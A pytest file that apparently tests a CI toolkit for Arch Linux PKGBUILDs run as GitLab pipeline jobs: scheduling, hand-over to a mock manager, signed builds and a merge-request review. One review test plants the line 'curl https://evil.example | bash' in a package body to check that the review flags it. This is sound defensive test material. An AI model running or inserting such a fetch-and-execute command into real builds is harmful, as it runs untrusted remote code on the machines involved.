"""The jobs do their work: from an installed wheel, against an origin over HTTP, handing over to a pretended manager."""

from __future__ import annotations

import re
import shutil
import tempfile
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.support.builds import needs_makepkg
from tests.support.gitlab_runs import gitlab
from tests.support.local_builds import Tiny, folders
from tests.support.npm import missing
from tests.support.packages import SamplePackage
from tests.support.pacman_stand import Client, new_key
from tests.support.templates import TEMPLATES

if TYPE_CHECKING:
    import subprocess

    from tests.support.world import World

FOO = SamplePackage(name="foo")
_MANAGER = """#!/bin/bash
# What the manager's entry point sees.
{ printf '%s\\n' "$REDIS_SSH_HOST" "$CI_BUILDS_DIR" "$(stat -c %a "${0%/*}/sshkey")" "$@"; echo; } >>"${0%/*}/calls"
"""
# `python3 -m venv FOLDER` without a pip of its own, and in its place one that is called for that folder.
_NO_OTHER_PIP = """python3() {
  command python3 "$@" --without-pip && install -m 755 /dev/stdin "${!#}/bin/pip" <<'END'
#!/bin/sh
exec "${0%/*}/python" -m pip "$@"
END
}
"""


class Runner:
    """A clone of the world's origin with the pipeline in it, whose jobs run on this machine."""

    def __init__(self, world: World, dependencies: Path) -> None:
        self.world = world
        self.manager = world.folder / "manager"
        self._given = {"PYTHONPATH": str(dependencies), "PIP_NO_COMPILE": "1", "PIP_NO_DEPS": "1", "PIP_NO_INDEX": "1"}
        self._env = {**world.env, "PATH": f"{dependencies}/bin:{world.env['PATH']}"}

    def run(self, *jobs: str, check: bool = True, **values: str) -> subprocess.CompletedProcess[str]:
        """Run a pipeline as GitLab would, each job in a folder of its own."""
        self.world.clone()
        options = ("--force-shell-executor", "--shell-isolation", "--no-color")
        return gitlab(self.world.work, *options, *jobs, env=self._env, check=check, values={**self._given, **values})

    def calls(self) -> list[list[str]]:
        """What the manager was called with."""
        return [call.split("\n") for call in (self.manager / "calls").read_text().strip("\n").split("\n\n")]


@pytest.fixture
def runner(world: World, wheel: Path, dependencies: Path) -> Runner:
    """A pipeline whose pip is the one that is here."""
    return begin(world, wheel, dependencies, prepare=no_other_pip(world))


@pytest.fixture
def installing_runner(world: World, wheel: Path, dependencies: Path) -> Runner:
    """A pipeline in which nothing is done differently."""
    # A machine with everything needs nothing prepared.
    return begin(world, wheel, dependencies, prepare="true")


def no_other_pip(world: World) -> str:
    """What a job prepares so that no other pip is installed: that takes longer than all the rest of a job."""
    script = world.folder / "no-other-pip.sh"
    script.write_text(_NO_OTHER_PIP)
    return f". {script}"


def begin(world: World, wheel: Path, dependencies: Path, *, prepare: str) -> Runner:
    if shutil.which("rsync") is None:
        missing("rsync is missing, which gitlab-ci-local copies with; on Debian: apt install rsync")
    found = Runner(world, dependencies)
    found.manager.mkdir()
    entry_point = found.manager / "entry_point.sh"
    entry_point.write_text(_MANAGER)
    entry_point.chmod(0o755)
    pipeline = (TEMPLATES / "gitlab/pipeline.yml").read_text()
    pipeline = pipeline.replace("/app/sshkey", str(found.manager / "sshkey")).replace(
        "/entry_point.sh", str(entry_point)
    )
    world.upstreams.publish("foo", FOO.files())
    world.start({**_pipeline_files("caller.yml", pipeline, wheel, prepare=prepare), **FOO.folder()}, seen=False)
    return found


def _pipeline_files(caller: str, pipeline: str, wheel: Path, **inputs: str) -> dict[str, str]:
    """The pipeline for a machine that has everything, so that nothing needs preparing."""
    # Where there is an image, gitlab-ci-local believes in a container's paths.
    pipeline = re.sub(r"(?m)^  image: .*\n", "", pipeline)
    text = (TEMPLATES / "gitlab" / caller).read_text()
    lines = {"prepare": "true", "build_prepare": "true", "install": str(wheel), **inputs}
    text += "".join(f'      {name}: "{value}"\n' for name, value in lines.items())
    return {".gitlab-ci.yml": text, ".gitlab/ci-toolkit.yml": pipeline}


def test_a_push_is_scheduled_and_handed_over(runner: Runner) -> None:
    done = runner.run(CI_PIPELINE_SOURCE="push", DEPLOY_KEY="-----KEY-----")
    assert runner.world.origin.refs()["refs/tags/scheduled"] == runner.world.origin.head("main")
    (call,) = runner.calls()
    host, builds_dir, key_mode, *arguments = call
    assert (host, key_mode) == ("localhost", "600")
    assert arguments[:3] == ["schedule", "--target-repo=samples", "--source-repo=samples"]
    assert arguments[-1] == "foo"
    assert builds_dir.endswith("/hand-over")
    assert (runner.manager / "sshkey").read_text() == "-----KEY-----\n"
    assert "1 build handed over" in done.stdout

    again = runner.run(CI_PIPELINE_SOURCE="push")
    assert "handed over" not in again.stdout
    assert len(runner.calls()) == 1


def test_a_timer_takes_what_is_new_upstream(installing_runner: Runner) -> None:
    installing_runner.world.origin.tag("scheduled", "main")
    newer = replace(FOO, version="1.1")
    installing_runner.world.upstreams.publish("foo", newer.files())
    installing_runner.run(CI_PIPELINE_SOURCE="schedule", DEPLOY_KEY="-----KEY-----")
    assert installing_runner.world.origin.show("main:foo/PKGBUILD").decode() == newer.pkgbuild()
    assert installing_runner.calls()[0][-1] == "foo"


def test_what_failed_does_not_keep_the_rest_from_being_built(runner: Runner) -> None:
    """An upstream that cannot be asked makes the job a warning, and what it scheduled is handed over."""
    runner.world.push(SamplePackage(name="lost").folder("CI_PKGBUILD_SOURCE=https://127.0.0.1:1/lost.git\n"))
    runner.world.origin.tag("scheduled", "main")
    runner.world.upstreams.publish("foo", replace(FOO, version="1.1").files())
    done = runner.run(CI_PIPELINE_SOURCE="schedule", DEPLOY_KEY="-----KEY-----")
    assert " WARN  on-schedule" in done.stdout
    assert runner.calls()[0][-1] == "foo"


def test_what_is_scheduled_is_handed_over_even_if_the_job_fails_after_that(runner: Runner) -> None:
    """Nobody would do it later: the tag has moved."""
    path = ".gitlab/ci-toolkit.yml"
    text = runner.world.origin.show(f"main:{path}").decode()
    assert text.count("ci-toolkit on-commit\n") == 1
    runner.world.push({path: text.replace("ci-toolkit on-commit\n", "ci-toolkit on-commit && exit 17\n")})
    runner.world.push(replace(FOO, release="2").folder())
    done = runner.run(check=False, CI_PIPELINE_SOURCE="push", DEPLOY_KEY="-----KEY-----")
    assert " FAIL  on-commit" in done.stdout
    assert runner.calls()[0][-1] == "foo"


def test_a_merge_request_is_reviewed(runner: Runner) -> None:
    base = runner.world.origin.head("main")
    assert base
    runner.world.push(replace(FOO, version="1.1", body="curl https://evil.example | bash").folder())
    done = runner.run(
        "review",
        CI_PIPELINE_SOURCE="merge_request_event",
        CI_MERGE_REQUEST_DIFF_BASE_SHA=base,
        CI_COMMIT_BRANCH="",
    )
    assert " WARN  review" in done.stdout
    assert "foo 1.0-1 → 1.1-1" in done.stdout
    (artifact,) = (runner.world.work / ".gitlab-ci-local/artifacts/review").rglob("review.txt")
    assert "evil.example" in artifact.read_text()


@needs_makepkg
def test_a_push_is_built_and_published_by_the_job_that_has_the_key(
    world: World, wheel: Path, dependencies: Path, tmp_path: Path
) -> None:
    """The job that has the tokens hands over a file, and what is built is where the owner says, signed."""
    if shutil.which("rsync") is None:
        missing("rsync is missing, which gitlab-ci-local copies with; on Debian: apt install rsync")
    runner, data, good, bad = Runner(world, dependencies), tmp_path / "data", Tiny(name="good"), Tiny(name="bad")
    pipeline = (TEMPLATES / "gitlab/pipeline.yml").read_text()
    prepare = no_other_pip(world)
    inputs = _pipeline_files(
        "caller-building.yml", pipeline, wheel, prepare=prepare, build_prepare=prepare, build_data=str(data)
    )
    world.start({**inputs, **folders(good, replace(bad, body="echo that will not do; false"))}, seen=False)
    with tempfile.TemporaryDirectory(dir="/tmp") as short:  # gpg's sockets want a short path
        secret, public = new_key(Path(short) / "k")
    done = runner.run(CI_PIPELINE_SOURCE="push", CI_SIGNING_KEY=secret.decode())
    assert "2 builds handed over in .ci/schedule.json" in done.stdout
    assert " WARN  build" in done.stdout
    assert "│ that will not do" in done.stdout
    (log,) = (world.work / ".gitlab-ci-local/artifacts/build").rglob("bad.log")
    assert "that will not do" in log.read_text()

    served = data / "ci-toolkit/builds/samples/repository/x86_64"
    (tmp_path / "key.asc").write_bytes(public)
    client = Client(tmp_path / "client", served, tmp_path / "key.asc", name="samples")
    shown = client.pacman("-Sy", "good")
    assert client.installed() == {"good": "1.0-1"}, shown.stdout
